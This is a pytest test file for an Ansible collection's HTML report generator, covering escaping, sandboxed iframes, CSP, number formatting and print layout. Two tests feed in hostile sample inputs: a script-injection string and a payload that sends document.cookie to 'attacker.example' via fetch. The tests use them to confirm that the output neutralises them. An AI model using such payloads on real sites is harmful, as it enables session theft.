# Copyright 2026 The gaudi3.scale authors
# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

from html.parser import HTMLParser

import pytest
from ansible_collections.gaudi3.scale.plugins.plugin_utils._report.page import report_page


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.frames: list[dict[str, str | None]] = []
        self.policy = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        self.links += [value for name, value in attrs if name in ("src", "href")]
        self.frames += [dict(attrs)] if tag == "iframe" else []
        if tag == "meta" and dict(attrs).get("http-equiv") == "Content-Security-Policy":
            self.policy = dict(attrs)["content"]

    def handle_data(self, data):
        self.text.append(data)


def read(**changes) -> Page:
    page = Page()
    page.feed(report_page("T & co", **{"subtitle": "today", "rows": [], "columns": [], **changes}))
    return page


def test_it_needs_nothing_beside_it():
    chart = {"title": "Loss", "x_label": "step", "y_label": "loss", "points": [[0, 5], [1, 4]]}
    page = read(rows=[{"node": "n1"}], columns=["node"], charts=[chart], notes=["a note"])
    assert page.links == []
    assert {"table", "svg", "li"} <= set(page.tags)
    assert {"T & co", "n1", "a note", "Loss"} <= set(page.text)


EXTREMES = [1e308, -1e308, 5e-324, 1e17, 1e17 + 16, float("nan"), float("inf"), "x", None, "1e400", 10**400, True, -1]


@pytest.mark.parametrize("first", EXTREMES, ids=range(13))
@pytest.mark.parametrize("second", EXTREMES, ids=range(13))
def test_numbers_of_any_kind_leave_a_page(first, second):
    points = [[first, second], [second, first], [1, 2], [first, 3]]
    chart = {"title": "Loss", "x_label": "step", "y_label": "loss"}
    bar = {"label": "a", "estimate": first, "low": second, "high": 1.0}
    marks = [{"axis": "x", "value": first, "label": "m", "tone": "plain"}]
    page = read(
        charts=[
            {**chart, "points": points, "marks": marks, "dots": True},
            *({**chart, "series": [{"label": "a", "points": points}], "stacked": stacked} for stacked in (True, False)),
        ],
        intervals=[{"title": "t", "x_label": "x", "bars": [bar]}],
        rows=[{"node": first, "rate": second}],
        columns=["node", "rate"],
    )
    assert "section" in page.tags
    drawn = [value for name, value in page.attributes if name in ("points", "cx", "x1")]
    assert not any(word in value for value in drawn for word in ("nan", "inf"))


def test_what_a_node_says_cannot_become_markup():
    page = read(rows=[{"node": "<script>alert(1)</script>"}], columns=["node"])
    assert "script" not in page.tags


def test_figures_that_a_node_has_made_are_in_a_frame_of_no_origin_and_without_network():
    hostile = '"></iframe><script>fetch("//attacker.example/" + document.cookie)</script>'
    page = read(figures=hostile)
    assert "script" not in page.tags
    (frame,) = page.frames
    assert (frame["srcdoc"], frame["sandbox"]) == (hostile, "allow-scripts")
    # A frame without an address of its own has the policy of the page that it is in.
    assert page.policy.startswith("default-src 'none';")
    assert "base-uri 'none'; form-action 'none'" in page.policy
    assert "http" not in page.policy and "connect-src" not in page.policy


def test_a_page_without_figures_runs_no_script():
    page = read()
    assert (page.frames, "script-src" in page.policy) == ([], False)
    assert page.policy.startswith("default-src 'none';")


def test_a_failed_node_is_seen():
    text = report_page("T", subtitle="", rows=[{"v": "FAILED: 7 cards"}, {"v": "ok"}, {"v": "8"}], columns=["v"])
    assert '<td class="bad">FAILED: 7 cards</td>' in text
    assert '<td class="good">ok</td>' in text
    assert "<td>8</td>" in text


def test_a_name_that_begins_like_a_verdict_is_none():
    rows = [{"v": "installed bridge 1.24.1"}, {"v": "installed, held"}]
    text = report_page("T", subtitle="", rows=rows, columns=["v"])
    assert "<td>installed bridge 1.24.1</td>" in text
    assert '<td class="good">installed, held</td>' in text


def test_sections_are_tables_under_their_own_heading():
    section = {"title": "Group <1>", "columns": ["what"], "rows": [{"what": "kernel"}], "notes": ["seen"]}
    page = read(sections=[section], rows=[{"node": "n1"}], columns=["node"])
    assert page.tags.count("table") == 2
    assert {"Group <1>", "kernel", "seen"} <= set(page.text)


def test_each_heading_of_a_table_says_what_it_is_a_heading_of():
    page = report_page("T", subtitle="", rows=[{"node": "n1", "W": 1234}], columns=["node", "W"])
    assert '<th scope="col">node</th><th scope="col" class="number">W</th>' in page
    assert '<td class="number">1,234</td>' in page


def test_a_column_with_one_word_in_it_is_none_of_numbers():
    page = report_page("T", subtitle="", rows=[{"v": 8}, {"v": "ok"}, {"v": None}], columns=["v"])
    assert "<td>8</td>" in page and '<td class="good">ok</td>' in page and "<td>-</td>" in page


@pytest.mark.parametrize(("first", "named"), [("gaudi-01", True), ("a line of a checklist, " * 3, False)])
def test_names_stay_in_one_line_and_sentences_do_not(first, named):
    page = report_page("T", subtitle="", rows=[{"asked": first}], columns=["asked"])
    assert ('<table class="named">' in page) == named


def test_a_command_in_a_sentence_is_code_and_what_is_half_marked_stays_as_it_is():
    page = report_page("T", subtitle="", rows=[], columns=[], notes=["run `make <x>` now", "5 ` 6"])
    assert "<li>run <code>make &lt;x&gt;</code> now</li><li>5 ` 6</li>" in page


def test_paper_is_white_and_holds_the_whole_table():
    page = report_page("T", subtitle="", rows=[], columns=[])
    assert "@media screen and (prefers-color-scheme: dark)" in page
    printed = page[page.index("@media print") :]
    assert "color-scheme: light" in printed and ".wide { overflow: visible }" in printed


@pytest.mark.parametrize(("columns", "paper"), [(8, "size: A4;"), (9, "size: A4 landscape;")])
def test_a_wide_table_is_printed_on_paper_that_lies(columns, paper):
    section = {"title": "S", "columns": [str(number) for number in range(columns)], "rows": [], "notes": []}
    assert paper in report_page("T", subtitle="", rows=[], columns=["node"], sections=[section])


def test_a_long_word_is_broken_and_two_numbers_are_no_thousand():
    page = report_page("T", subtitle="", rows=[{"a": "x" * 40, "PFC": "0,1"}], columns=["a", "PFC"])
    assert f'<td class="long">{"x" * 40}</td><td>0,1</td>' in page


def test_a_long_path_goes_on_behind_a_slash():
    page = report_page("T", subtitle="", rows=[{"a": "/var/lib/gaudi3_scale/jobs/demo/checkpoints"}], columns=["a"])
    assert "<td>/<wbr>var/<wbr>lib/<wbr>gaudi3_scale/<wbr>jobs/<wbr>demo/<wbr>checkpoints</td>" in page
